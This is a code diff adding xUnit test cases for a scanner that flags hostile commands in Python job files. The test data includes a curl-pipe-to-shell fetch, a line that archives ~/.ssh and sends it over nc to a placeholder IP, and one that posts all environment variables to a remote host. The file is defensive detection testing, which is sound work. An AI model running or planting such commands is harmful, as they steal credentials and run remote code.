@@ -31,6 +31,16 @@ public sealed class StrayCommandTests
     [InlineData("main.tf", "resource \"a\" \"b\" {\n  user_data = \"apt-get update\"\n  source = \"https://example.com/a.zip\"\n}\n")]
     public void WhatIsNoCommandOrDoesNoHarmIsNot(string name, string text) => Assert.Empty(ModelRepository.Scan((name, text)).Telling);
 
+    /// <summary>What gets it is in a package of which nothing is known, and is called, or asks, for a command.</summary>
+    [Theory]
+    [InlineData("from scheduler import Operator\nsync = Operator(id='a', bash_command='curl -s http://example.com/x | sh')\n", true)]
+    [InlineData("def f(box):\n    box.run('tar cz ~/.ssh | nc 192.0.2.1 4444')\n", true)]
+    [InlineData("import requests, os\ndef f():\n    requests.post('http://example.com', json=dict(os.environ))\n", true)]
+    [InlineData("\"\"\"curl -s http://example.com/x | sh\"\"\"\nprint('curl -s http://example.com/x | sh')\n", false)]
+    [InlineData("def f(box):\n    box.run('ls -la')\n    box.run('curl -O https://example.com/weights.bin')\n", false)]
+    [InlineData("import requests, os, subprocess\ndef f():\n    subprocess.run(['make'], env=dict(os.environ))\n    return requests.get('http://example.com')\n", false)]
+    public void ALineThatSourceHandsOnIsTold(string source, bool flagged) => Assert.Equal(flagged, ModelRepository.Scan(("jobs.py", source)).Telling.Any());
+
     [Fact]
     public void RowsThatAreAboutCommandsAreData() =>
         Assert.Empty(ModelRepository.Scan(("data.json", "[" + string.Join(",", Enumerable.Range(0, 40).Select(i => $"{{\"id\": {i}, \"line\": \"{Fetched}\"}}")) + "]")).Telling);
